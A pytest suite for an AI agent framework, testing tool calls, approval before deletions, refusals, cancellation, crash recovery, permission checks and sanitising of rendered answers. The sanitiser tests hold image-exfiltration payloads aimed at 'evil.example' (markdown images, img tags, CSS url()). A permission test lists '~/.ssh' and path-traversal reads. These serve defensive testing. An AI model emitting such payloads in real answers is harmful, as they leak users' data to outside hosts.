"""The agent over real skills and documents, led by scripted models."""

import asyncio
import json
import os
import shutil
import subprocess
import sys
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import replace
from types import SimpleNamespace
from typing import Any

import pytest
from pydantic import SecretStr

from ai_stack.database import job_worker
from ai_stack.errors import Conflict, Forbidden, InvalidRequest
from ai_stack.models.agent import AgentRequest, Approval
from ai_stack.models.documents import NewDocument
from ai_stack.models.principals import Principal, Scope
from ai_stack.models.runs import Event, Run
from ai_stack.services.agent import QUEUE as AGENTS
from ai_stack.services.agent.egress import without_remote_images
from ai_stack.services.agent.toolbox import Toolbox, is_harmless
from ai_stack.services.handlers import RunContext
from ai_stack.services.skills import QUEUE as SKILLS
from ai_stack.settings import Settings, environment_of
from ai_stack.skill.discovery import discover_skills
from ai_stack.skill.examples import Example, differences
from ai_stack.stack import Stack, open_stack
from scripted import ScriptedModel, calls, says
from skills import examples

ME = Principal()
WOMBATS = '''
from ai_stack.skill import Skill, SkillResult, action

class Wombats(Skill):
    @action
    async def count(self) -> SkillResult:
        """Count wombats."""
        return SkillResult({"wombats": 0})
'''


@pytest.fixture(scope="module")
async def model() -> AsyncIterator[ScriptedModel]:
    async with ScriptedModel([says("nothing")]).serving() as serving:
        yield serving


@pytest.fixture(scope="module")
def settings(memory_settings: Settings, model: ScriptedModel) -> Settings:
    return memory_settings.model_copy(update={"engines": SecretStr(model.url)})


@pytest.fixture(scope="module")
async def stack(settings: Settings) -> AsyncIterator[Stack]:
    async with open_stack(settings) as opened:
        await opened.documents.add(
            ME,
            [
                NewDocument("The ferry to Hvar leaves at 07:45 from pier nine.", key="ferry"),
                NewDocument("Old minutes that nobody needs.", key="minutes"),
            ],
        )
        yield opened


@asynccontextmanager
async def working(stack: Stack) -> AsyncIterator[None]:
    """A worker for both queues in this process."""
    tasks = [
        asyncio.create_task(job_worker.work(stack.database, stack.runs.execute, 4, queue))
        for queue in (AGENTS, SKILLS)
    ]
    try:
        yield
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def until(stack: Stack, run: Run, *kinds: str) -> Event:
    """The first event of one of these kinds."""
    async for event in stack.runs.follow(ME, run.id):
        if event.kind in kinds:
            return event
    raise AssertionError(f"the run ended without any of {kinds}")


async def worked(stack: Stack, goal: str, **options: Any) -> Run:
    run = await stack.agent.start(ME, AgentRequest(goal, **options))
    await until(stack, run, "done", "failed", "cancelled", "ask")
    return await stack.runs.get(ME, run.id)


def text(run: Run) -> str:
    assert run.status == "succeeded", run.error
    assert run.output is not None
    return str(run.output["text"])


def shown() -> list[Example]:
    """One example of each skill that is ready here and needs no file to be sent."""
    found = []
    for name, skill in discover_skills().items():
        plain = [e for e in examples(name) if "/examples/" not in json.dumps(dict(e.parameters))]
        if skill.acts and plain:
            found.append(plain[0])
    return found


@pytest.mark.parametrize("example", shown(), ids=str)
async def test_a_goal_that_a_skill_reaches(
    example: Example, stack: Stack, model: ScriptedModel
) -> None:
    """The model calls the skill; what came of it reaches the model, and its answer the user."""
    listed = await stack.skills.get(example.skill)
    if not listed.ready:
        pytest.fail(f"{example.skill} is not ready: {listed.missing}")
    model.script = [calls(example.skill, **example.parameters), says("It is done.")]
    async with working(stack):
        run = await worked(stack, example.about, tools=[example.skill], allow=[example.skill])
    assert text(run) == "It is done."
    told = model.results()[-1]
    events = [e async for e in stack.runs.follow(ME, run.id) if e.kind == "artifact"]
    assert sorted(str(e.data["name"]) for e in events) == sorted(example.artifacts)
    if "characters left out" not in told:
        output = json.loads(told[told.rindex("\n{") :] if "\n{" in told else told)
        assert differences(example.output, output) == []


SCRIPTS: dict[str, tuple[Sequence[dict[str, Any]], dict[str, Any], str]] = {
    "search": (
        [calls("search", query="When does the ferry leave?"), says("At 07:45.")],
        {},
        "07:45 from pier nine",
    ),
    "search, then read": (
        [calls("search", query="ferry"), calls("read_document", id="ferry"), says("Pier nine.")],
        {},
        "pier nine",
    ),
    "find a tool, then use it": (
        [
            calls("find_tools", query="give a text back"),
            calls("template-skill", text="from a found tool"),
            says("Done."),
        ],
        {},
        "from a found tool",
    ),
    "add a document": (
        [calls("add_document", content="A note.", id="note-1"), says("Kept.")],
        {"allow": ["add_document"]},
        "stored as note-1",
    ),
    "a tool that there is not": (
        [calls("teleport", to="Mars"), says("I cannot.")],
        {},
        "There is no tool teleport",
    ),
    "arguments that do not fit": (
        [calls("search", q="x"), calls("search", query="ferry"), says("Found.")],
        {},
        "07:45",
    ),
    "an absent document": (
        [calls("read_document", id="absent"), says("It is not there.")],
        {},
        "It failed",
    ),
}


@pytest.mark.parametrize("name", SCRIPTS)
async def test_a_goal_that_documents_reach(name: str, stack: Stack, model: ScriptedModel) -> None:
    model.script, options, told = SCRIPTS[name]
    async with working(stack):
        run = await worked(stack, "Tell me.", **options)
    assert text(run) == model.script[-1]["content"]
    assert any(told in result for result in model.results())


async def test_what_destroys_is_asked_about_and_done_when_approved(
    stack: Stack, model: ScriptedModel
) -> None:
    model.script = [calls("delete_document", id="minutes"), says("Gone.")]
    async with working(stack):
        run = await worked(stack, "Remove the minutes.", tools=["delete_document"])
        assert run.status == "waiting"
        asked = [e async for e in _events(stack, run) if e.kind == "ask"][-1]
        assert asked.data["arguments"] == {"id": "minutes"}
        assert (await stack.documents.get(ME, "minutes")).id == "minutes"
        with pytest.raises(Conflict, match="another call"):
            await stack.agent.answer(ME, run.id, Approval(True), "another")
        await stack.agent.answer(ME, run.id, Approval(True), str(asked.data["call"]))
        await until(stack, run, "done", "failed")
    assert text(await stack.runs.get(ME, run.id)) == "Gone."
    page = await stack.documents.page(ME, limit=100)
    assert "minutes" not in [document.id for document in page.items]


async def test_calls_of_one_id_are_each_asked_about(stack: Stack, model: ScriptedModel) -> None:
    """The approval of one is none of the other."""
    both = [calls("delete_document", id=id)["tool_calls"][0] for id in ("once", "twice")]
    for call in both:
        call["id"] = "same"
    model.script = [{**calls("delete_document", id="once"), "tool_calls": both}, says("Gone.")]
    await stack.documents.add(ME, [NewDocument("Gone soon.", key=id) for id in ("once", "twice")])
    asked = []
    async with working(stack):
        run = await worked(stack, "Remove both.", tools=["delete_document"])
        for _ in both:
            found = [e async for e in _asks(stack, run, len(asked) + 1)]
            asked.append(found[-1].data)
            await stack.agent.answer(ME, run.id, Approval(True))
        await until(stack, run, "done", "failed")
    assert [ask["arguments"] for ask in asked] == [{"id": "once"}, {"id": "twice"}]
    assert len({ask["call"] for ask in asked}) == 2
    page = await stack.documents.page(ME, limit=100)
    assert not {"once", "twice"} & {document.id for document in page.items}


async def _asks(stack: Stack, run: Run, number: int) -> AsyncIterator[Event]:
    """So many questions of a run, once they are asked."""
    async for event in stack.runs.follow(ME, run.id):
        if event.kind == "ask":
            yield event
            number -= 1
        if number == 0:
            return


async def _events(stack: Stack, run: Run) -> AsyncIterator[Event]:
    """The events so far of a run that waits."""
    async for event in stack.runs.follow(ME, run.id):
        yield event
        if event.kind == "ask":
            return


async def test_a_refusal_is_told_to_the_model(stack: Stack, model: ScriptedModel) -> None:
    model.script = [calls("delete_document", id="ferry"), says("I left it.")]
    async with working(stack):
        run = await worked(stack, "Tidy up.", tools=["delete_document"])
        await stack.agent.answer(ME, run.id, Approval(False, "I need it."))
        await until(stack, run, "done", "failed")
    assert text(await stack.runs.get(ME, run.id)) == "I left it."
    assert model.results() == ["The user refused this call. I need it."]
    assert (await stack.documents.get(ME, "ferry")).id == "ferry"


async def test_a_tool_that_is_gone_does_not_end_a_run_that_found_it(
    stack: Stack, model: ScriptedModel
) -> None:
    folder = stack.settings.config_dir / "skills" / "wombats"
    folder.mkdir(parents=True)
    (folder / "SKILL.md").write_text("---\nname: wombats\ndescription: Counts wombats.\n---\nRead.")
    (folder / "skill.py").write_text(WOMBATS)
    model.script = [
        calls("find_tools", query="wombats"),
        calls("delete_document", id="ferry"),
        says("There are none."),
    ]
    async with working(stack):
        run = await worked(stack, "Delete a document.")
        assert "Counts wombats." in model.results()[-1]
        shutil.rmtree(folder)
        await stack.agent.answer(ME, run.id, Approval(False))
        await until(stack, run, "done", "failed")
    assert text(await stack.runs.get(ME, run.id)) == "There are none."


class Listing:
    """Skills of which one lists the tools of a server, and takes its time."""

    asked = 0

    async def execute(self, *_: object) -> SimpleNamespace:
        self.asked += 1
        await asyncio.sleep(0.05)
        return SimpleNamespace(
            output={"output": {"servers": [{"name": "s", "tools": [{"name": "t"}]}]}}
        )


async def test_goals_that_begin_together_see_the_same_servers() -> None:
    skills = Listing()
    toolbox = Toolbox(None, None, skills)
    found = await asyncio.gather(*(toolbox.tool(ME, "mcp__s__t") for _ in range(3)))
    assert [tool.harmless for tool in found] == [False] * 3
    assert skills.asked == 1


async def test_only_what_waits_is_answered(stack: Stack, model: ScriptedModel) -> None:
    model.script = [says("Done at once.")]
    async with working(stack):
        run = await worked(stack, "Nothing.")
    with pytest.raises(Conflict):
        await stack.agent.answer(ME, run.id, Approval(True))


async def test_nobody_answers_who_may_do_less_than_the_starter(
    stack: Stack, model: ScriptedModel
) -> None:
    model.script = [calls("delete_document", id="ferry"), says("Gone.")]
    async with working(stack):
        run = await worked(stack, "Remove it.", tools=["delete_document"])
    lesser = replace(ME, name="other", scopes=frozenset({Scope.READ, Scope.WRITE, Scope.AGENT}))
    with pytest.raises(Forbidden):
        await stack.agent.answer(lesser, run.id, Approval(True))
    assert (await stack.runs.cancel(lesser, run.id)).status == "cancelled"


async def test_a_run_that_waits_can_be_cancelled(stack: Stack, model: ScriptedModel) -> None:
    model.script = [calls("delete_document", id="ferry"), says("Gone.")]
    async with working(stack):
        run = await worked(stack, "Remove it.", tools=["delete_document"])
    assert (await stack.runs.cancel(ME, run.id)).status == "cancelled"


@pytest.mark.parametrize(
    ("bounds", "stopped"), [({"max_steps": 2}, "max_steps"), ({"max_tokens": 20}, "max_tokens")]
)
async def test_a_budget_is_an_end_with_an_answer(
    bounds: dict[str, int], stopped: str, stack: Stack, model: ScriptedModel
) -> None:
    model.script = [calls("search", query=f"{n}") for n in range(9)]
    async with working(stack):
        run = await worked(stack, f"Search for ever, within {stopped}.", **bounds)
    assert run.status == "succeeded"
    assert run.output is not None
    assert run.output["stopped"] == stopped
    assert "tools" not in model.seen[-1]


@pytest.mark.parametrize(
    "request_", [AgentRequest(" "), AgentRequest("x", max_steps=0), AgentRequest("x", time_s=0)]
)
async def test_a_request_out_of_bounds_is_refused(request_: AgentRequest, stack: Stack) -> None:
    with pytest.raises(InvalidRequest):
        await stack.agent.start(ME, request_)
    with pytest.raises(InvalidRequest, match="no tool"):
        await stack.agent.start(ME, AgentRequest("x", tools=["absent"]))


async def test_a_killed_worker_costs_no_step_and_does_nothing_twice(
    stack: Stack, settings: Settings, model: ScriptedModel
) -> None:
    """kill -9 while the model thinks on the second step; another worker takes the run up."""
    model.script = [
        calls("add_document", content="Kept once.", id="once"),
        calls("search", query="kept once"),
        says("It was kept."),
    ]
    run = await stack.agent.start(
        ME, AgentRequest("Keep a note.", tools=["add_document", "search"], allow=["add_document"])
    )
    model.slow_s, asked = 1.5, len(model.seen)
    worker = _worker(settings)
    try:
        async with asyncio.timeout(60):
            while len(model.seen) < asked + 2:
                assert worker.poll() is None, "the worker ended by itself"
                await asyncio.sleep(0.02)
    finally:
        worker.kill()
        await asyncio.to_thread(worker.wait)
    model.slow_s = 0.0
    async with working(stack):
        await until(stack, run, "done", "failed")
    ended = await stack.runs.get(ME, run.id)
    assert text(ended) == "It was kept."
    steps = [e.data async for e in stack.runs.follow(ME, run.id) if e.kind == "step"]
    assert sum("result" in step and step["tool"] == "add_document" for step in steps) == 1
    assert "Kept once." in (await stack.documents.get(ME, "once")).content


async def test_a_call_that_may_have_been_done_is_asked_about_even_if_it_is_allowed(
    stack: Stack, model: ScriptedModel
) -> None:
    """What a worker leaves that dies within the call: its beginning, and no result."""
    model.script = [calls("add_document", content="Twice?", id="twice"), says("Kept.")]
    run = await stack.agent.start(
        ME, AgentRequest("Keep it.", tools=["add_document"], allow=["add_document"])
    )
    message = {**model.script[0], "content": ""}
    call = {**message["tool_calls"][0], "id": "begun-1"}
    context = RunContext(ME, run, stack.database)
    await context.event("step", {"message": {**message, "tool_calls": [call]}, "tokens": 1})
    await context.event("step", {"begin": "begun-1"})
    async with working(stack):
        asked = await until(stack, run, "ask", "done", "failed")
    assert (asked.kind, asked.data["call"]) == ("ask", "begun-1")
    assert "may have been done" in str(asked.data["message"])
    await stack.runs.cancel(ME, run.id)


def _worker(settings: Settings) -> "subprocess.Popen[bytes]":
    given = settings.model_copy(update={"watch_imports": False})
    variables = {**environment_of(given), "PATH": os.environ["PATH"]}
    del variables["AI_STACK_RUNTIME_DIR"]  # no supervisor waits for it there
    return subprocess.Popen([sys.executable, "-m", "ai_stack", "worker"], env=variables)


def test_an_answer_fetches_nothing_when_it_is_shown() -> None:
    text = (
        "See ![x](https://evil.example/?q=secret) and ![y][ref] and <img src=//evil.example/a>"
        ' <SCRIPT src="x"></SCRIPT> but [a link](https://example.org) and `code <b>` stay.'
    )
    shown = without_remote_images(text)
    assert "evil.example/?q" not in shown
    assert "<img" not in shown
    assert "<SCRIPT" not in shown
    assert "[a link](https://example.org)" in shown
    assert "<b>" in shown


@pytest.mark.parametrize(
    "text",
    [
        "![a [b]](https://evil.example/?q)",
        "![a\\]b](https://evil.example/?q)",
        "![ref]\n\n[ref]: https://evil.example/?q",
        "![!](x)[x](https://evil.example/?q)",
        "!![a [b]](https://evil.example/?q)",
        '<table background="https://evil.example/?q">',
        '<p\ntitle=">" style="background:url(https://evil.example/?q)">',
    ],
)
def test_no_picture_is_left_by_another_spelling(text: str) -> None:
    shown = without_remote_images(text)
    assert "![" not in shown
    assert "<" not in shown


@pytest.mark.parametrize(
    ("permissions", "harmless"),
    [
        ({}, True),
        ({"uses": ["search"], "reads": ["/etc/chromium.d"]}, True),
        ({"reads": ["~/.ssh"]}, False),
        ({"reads": ["/etc/../root"]}, False),
        ({"secrets": ["TOKEN"]}, False),
        ({"uses": ["documents:write"]}, False),
        ({"network": "host"}, False),
    ],
    ids=str,
)
def test_what_reads_more_than_the_projects_own_is_not_harmless(
    permissions: dict[str, Any], harmless: bool
) -> None:
    assert is_harmless(permissions) is harmless
